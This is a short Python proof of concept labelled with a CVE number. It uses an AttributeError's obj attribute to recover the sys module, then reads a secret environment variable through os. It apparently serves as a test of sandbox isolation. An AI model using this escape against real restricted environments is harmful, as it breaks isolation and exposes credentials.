# CVE-2024-47532: AttributeError.obj of a failed lookup on a module reached through another.
import json
try:
    json.codecs.sys.no_such_attribute
except AttributeError as e:
    sys_module = e.obj
print(sys_module.modules["os"].environ["STATEK_TEST_SECRET"])
